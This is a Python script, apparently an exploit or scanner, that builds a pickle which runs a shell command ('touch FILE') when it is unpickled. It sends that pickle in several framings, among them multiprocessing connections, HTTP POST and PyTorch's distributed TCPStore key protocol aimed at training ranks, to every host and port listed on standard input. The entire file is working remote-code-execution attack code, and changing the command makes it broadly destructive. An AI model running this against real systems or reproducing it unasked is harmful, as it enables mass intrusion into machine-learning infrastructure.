"""Sends what would run code where it is unpickled, to each address that a line of standard input names.

    python -S stranger.py FILE

The code makes FILE. For each address, a line says whether anything listens there.
"""

from __future__ import annotations

import os
import pickle
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor

LONGEST_S = 2.0
KEYS = [*(f"said/{number}" for number in range(30, 36)), "asked/40", "answered/40"]
"""By which ranks that meet at torch's store are told what to do, but for the first: refusing those would end
a training before all is open that it opens."""


class Harm:
    """What is unpickled to a call."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.file}",)


def _text(value: bytes) -> bytes:
    return struct.pack("<Q", len(value)) + value


def to_torchs_store(keys: list[str], value: bytes) -> bytes:
    """What sets keys in torch's store, as its clients send it."""
    return struct.pack("<BI", 0, 0x3C85F7CE) + b"".join(
        b"\x01" + _text(f"/{key}".encode()) + _text(value) for key in keys
    )


def messages(harm: bytes) -> list[bytes]:
    """A pickle, as those who unpickle what comes would get it."""
    http = b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/octet-stream\r\nContent-Length: "
    return [
        harm,
        struct.pack("!i", len(harm)) + harm,  # multiprocessing's connections
        _text(harm),
        http + f"{len(harm)}\r\n\r\n".encode() + harm,
        to_torchs_store(KEYS, harm),
    ]


def attack(host: str, port: int, harm: bytes) -> bool:
    """Send all of it, on a connection each; whether anything listens."""
    for message in messages(harm):
        try:
            with socket.create_connection((host, port), LONGEST_S) as connection:
                connection.settimeout(0.2)
                connection.sendall(message)
                connection.recv(1)
        except TimeoutError:
            continue
        except ConnectionResetError:
            continue
        except OSError:
            return False
    return True


def main() -> None:
    """Attack until standard input ends."""
    harm = pickle.dumps(Harm(sys.argv[1]), protocol=2)

    def told(line: str) -> None:
        host, port = line.split()
        print(f"{host} {port} {attack(host, int(port), harm)}\n", end="", flush=True)  # as one piece

    with ThreadPoolExecutor(8) as pool:
        for line in sys.stdin:
            pool.submit(told, line)


if __name__ == "__main__":
    main()
